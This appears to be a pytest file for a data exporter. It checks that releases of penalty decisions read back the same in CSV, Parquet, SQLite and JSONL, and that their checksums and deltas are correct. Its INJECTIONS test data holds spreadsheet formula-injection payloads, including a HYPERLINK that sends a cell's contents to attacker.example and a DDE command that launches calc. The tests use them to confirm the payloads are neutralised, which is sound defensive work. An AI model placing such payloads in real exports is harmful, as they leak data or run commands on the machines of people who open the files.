"""Bulk releases: every format reads back to the same decisions, the package validates,
the delta and checksums are right, and CSV cells cannot run as spreadsheet formulas."""

import csv
import gzip
import hashlib
import json
import sqlite3
from datetime import date, datetime
from decimal import Decimal

import pandas as pd
import pyarrow.parquet as pq
import pytest
from frictionless import validate

from indexer import export
from indexer.schema import DECISION_FIELDS, empty_decision
from indexer.store import open_store

INJECTIONS = {
    "party_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "decision_number": "@SUM(1+1)*cmd|' /C calc'!A0",
    "facts": "-2+3 is not a formula here",
    "title": "+1 title",
    "penalty_text": "'already quoted",
}


def test_neutralise_is_reversible():
    for cell in list(INJECTIONS.values()) + ["plain", "", "'", "''", "\t1", "\r2", "1=1"]:
        guarded = export.neutralise(cell)
        assert export.unneutralise(guarded) == cell
        assert not guarded[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert export.neutralise("1=1") == "1=1"
    assert export.neutralise("=1+1") == "'=1+1"


def _read_jsonl(path):
    with gzip.open(path, "rt", encoding="utf-8") as f:
        return [json.loads(line) for line in f]


def _decode_csv(cell, kind):
    """A CSV cell back to the record's value, by the documented rules."""
    cell = export.unneutralise(cell)
    if cell == "":
        return None
    if kind == "list":
        return cell.split(";")
    if kind in ("records", "map", "json"):
        return json.loads(cell)
    if kind == "boolean":
        return {"true": True, "false": False}[cell]
    if kind == "integer":
        return int(cell)
    return cell


def _empty_to_none(value, kind):
    if kind in ("list", "records", "map") and not value:
        return None
    return value


def _check_release(folder, records):
    """Every file of a release holds exactly ``records``."""
    ids = [r["id"] for r in records]
    kinds = export.KINDS

    # datapackage.json: Frictionless validates schemas, row counts, sizes and hashes.
    report = validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["title", "message"])[:10]

    # CSV through pandas: same rows, same values.
    frame = pd.read_csv(folder / "decisions.csv.gz", dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(DECISION_FIELDS)
    assert frame["id"].tolist() == ids
    for row, record in zip(frame.to_dict("records"), records):
        for name, kind in kinds.items():
            assert _decode_csv(row[name], kind) == _empty_to_none(record[name], kind), name

    # Parquet through pyarrow (typed) and pandas.
    table = pq.read_table(folder / "decisions.parquet")
    assert table.num_rows == len(records)
    assert str(table.schema.field("decision_date").type) == "date32[day]"
    assert str(table.schema.field("fine_amount").type).startswith("decimal128")
    assert len(pd.read_parquet(folder / "decisions.parquet")) == len(records)
    for row, record in zip(table.to_pylist(), records):
        assert row["id"] == record["id"]
        for name, kind in kinds.items():
            value, expected = row[name], record[name]
            if expected is None:
                assert value is None, name
            elif kind == "date":
                assert value == date.fromisoformat(expected)
            elif kind == "datetime":
                assert value == datetime.fromisoformat(expected.replace("Z", "+00:00"))
            elif kind == "decimal":
                assert value == Decimal(expected), name
            elif kind == "map":
                assert dict(value) == expected
            elif kind == "records":
                props = DECISION_FIELDS[name]["items"]["properties"]
                assert value == [{k: None if c.get(k) is None else str(c[k]) for k in props}
                                 for c in expected], name
            elif kind == "json":
                assert json.loads(value) == expected, name
            else:
                assert value == expected, name

    # SQLite: the table and the list tables.
    db = sqlite3.connect(folder / "decisions.sqlite")
    db.row_factory = sqlite3.Row
    rows = db.execute("SELECT * FROM decisions ORDER BY id").fetchall()
    assert [r["id"] for r in rows] == ids
    for row, record in zip(rows, records):
        assert row["party_name"] == record["party_name"]
        assert row["decision_date"] == record["decision_date"]
        for name in ("fine_amount", "total_amount"):
            assert (row[name] is None) == (record[name] is None)
            if record[name] is not None:
                assert Decimal(str(row[name])) == Decimal(record[name])
        assert json.loads(row["legal_basis"]) == record["legal_basis"]
    for name in ("violation_types", "penalty_kinds"):
        assert db.execute('SELECT count(*) FROM "%s"' % name).fetchone()[0] == \
            sum(len(r[name]) for r in records)
    assert db.execute("SELECT count(*) FROM legal_basis").fetchone()[0] == \
        sum(len(r["legal_basis"]) for r in records)
    db.close()

    # JSON lines: the full records.
    assert _read_jsonl(folder / "decisions.jsonl.gz") == records

    # SHA256SUMS lists every file, with its hash.
    listed = {}
    for line in (folder / "SHA256SUMS").read_text(encoding="utf-8").splitlines():
        digest, name = line.split("  ", 1)
        listed[name] = digest
    files = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert set(listed) == files - {"SHA256SUMS"}
    for name, digest in listed.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest, name


@pytest.fixture(scope="module")
def real_release(archive, tmp_path_factory):
    out = tmp_path_factory.mktemp("exports")
    with open_store("embedded", str(archive / "store"), readonly=True) as store:
        records = list(store.iter_decisions())
        entry = export.export_release(store, str(out), name="2026-01-31")
    return out, entry, records


def test_release_of_real_decisions_reads_back_everywhere(real_release):
    out, entry, records = real_release
    assert len(records) >= 5
    assert entry["decisions"] == len(records)
    _check_release(out / "2026-01-31", records)
    index = json.loads((out / "index.json").read_text(encoding="utf-8"))
    assert index["latest"] == "2026-01-31"
    assert index["releases"][0]["counts"]["decisions"] == len(records)
    package = json.loads((out / "2026-01-31" / "datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"][0]["name"]
    descriptions = {f["name"]: f["description"] for f in package["resources"][0]["schema"]
                    ["fields"]}
    assert descriptions["decision_number"] == DECISION_FIELDS["decision_number"]["description"]


def test_slices_partition_the_release(real_release):
    out, _, records = real_release
    folder = out / "2026-01-31"
    for kind in ("by-source", "by-year"):
        ids = []
        for path in sorted((folder / kind).glob("*.csv.gz")):
            with gzip.open(path, "rt", encoding="utf-8", newline="") as f:
                ids.extend(row["id"] for row in csv.DictReader(f))
        assert sorted(ids) == sorted(r["id"] for r in records)
    years = {p.name.split(".")[0] for p in (folder / "by-year").glob("*.csv.gz")}
    assert years == {(r["decision_date"] or r["published_date"] or "")[:4] or "undated"
                     for r in records}


def test_chinese_header_variant(real_release):
    out, _, records = real_release
    frame = pd.read_csv(out / "2026-01-31" / "decisions.zh.csv.gz", dtype=str,
                        keep_default_na=False)
    for header in ("行政相对人名称", "统一社会信用代码", "行政处罚决定书文号", "违法事实",
                   "处罚依据", "处罚类别", "罚款金额(万元)", "处罚决定日期", "处罚机关"):
        assert header in frame.columns
    by_id = {r["id"]: r for r in records}
    fined = 0
    for row in frame.to_dict("records"):
        record = by_id[row["档案编号"]]
        assert export.unneutralise(row["行政相对人名称"]) == (record["party_name"] or "")
        if record["fine_amount"] and record["currency"] == "CNY":
            assert Decimal(row["罚款金额(万元)"]) * 10000 == Decimal(record["fine_amount"])
            fined += 1
        if "fine" in record["penalty_kinds"]:
            assert "罚款" in row["处罚类别"]
    assert fined >= 1


def _record(key, **values):
    record = empty_decision()
    record.update(id="test:" + key, source="test", decision_date="2024-05-0%s" % key[-1],
                  decision_number="TEST-%s" % key, party_name="Synthetic test party " + key,
                  penalty_kinds=["fine"], fine_amount="1234.5", total_amount="1234.5",
                  currency="CNY", jurisdiction="CN")
    record.update(values)
    return record


def test_formula_injection_and_delta(tmp_path):
    """A party named =HYPERLINK(...) comes out neutralised; the delta tracks changes."""
    out = tmp_path / "exports"
    with open_store("embedded", str(tmp_path / "store")) as store:
        store.upsert([_record("1"), _record("2"), _record("3", **INJECTIONS)])
        first = export.export_release(store, str(out), name="r1")
        records = list(store.iter_decisions())
        store.upsert([_record("2", fine_amount="99", total_amount="99"), _record("4")])
        store.withdraw("test:1")
        second = export.export_release(store, str(out), name="r2")
        records_2 = list(store.iter_decisions())

    assert first["delta"] == {"added": 3, "changed": 0, "withdrawn": 0, "previous": None}
    _check_release(out / "r1", records)
    with gzip.open(out / "r1" / "decisions.csv.gz", "rt", encoding="utf-8", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["id"] == "test:3")
    for name, value in INJECTIONS.items():
        assert row[name] == "'" + value
    assert row["party_name"].startswith("'=HYPERLINK(")
    with gzip.open(out / "r1" / "decisions.zh.csv.gz", "rt", encoding="utf-8",
                   newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["档案编号"] == "test:3")
    assert row["行政相对人名称"] == "'" + INJECTIONS["party_name"]

    assert second["delta"] == {"added": 1, "changed": 1, "withdrawn": 1, "previous": "r1"}
    changes = {(line["change"], line["id"]) for line in _read_jsonl(out / "r2" / "delta.jsonl.gz")}
    assert changes == {("added", "test:4"), ("changed", "test:2"), ("withdrawn", "test:1")}
    _check_release(out / "r2", records_2)
    index = json.loads((out / "index.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in index["releases"]] == ["r2", "r1"]
    assert index["latest"] == "r2"


def test_release_names_are_checked_and_never_overwritten(tmp_path):
    with open_store("embedded", str(tmp_path / "store")) as store:
        store.upsert([_record("1")])
        export.export_release(store, str(tmp_path / "exports"), name="r1")
        with pytest.raises(export.ExportError):
            export.export_release(store, str(tmp_path / "exports"), name="r1")
        with pytest.raises(export.ExportError):
            export.export_release(store, str(tmp_path / "exports"), name="../x")
    assert sorted(p.name for p in (tmp_path / "exports").iterdir()) == ["index.json", "r1"]


def test_a_licence_stated_by_a_source_reaches_the_release(tmp_path):
    """Rows whose texts carry a source's licence: the field is in every format and the
    package lists that licence with its row count beside the compilation's."""
    out = tmp_path / "exports"
    with open_store("embedded", str(tmp_path / "store")) as store:
        store.upsert([_record("1", licence="CC-BY-NC-SA-4.0"), _record("2")])
        export.export_release(store, str(out), name="r1")
        records = list(store.iter_decisions())
    _check_release(out / "r1", records)
    package = json.loads((out / "r1" / "datapackage.json").read_text(encoding="utf-8"))
    names = {lic["name"]: lic for lic in package["licenses"]}
    assert set(names) == {"CC-BY-4.0", "CC-BY-NC-SA-4.0"}
    assert names["CC-BY-NC-SA-4.0"]["x_rows"] == 1
    assert names["CC-BY-NC-SA-4.0"]["path"].endswith("/by-nc-sa/4.0/")
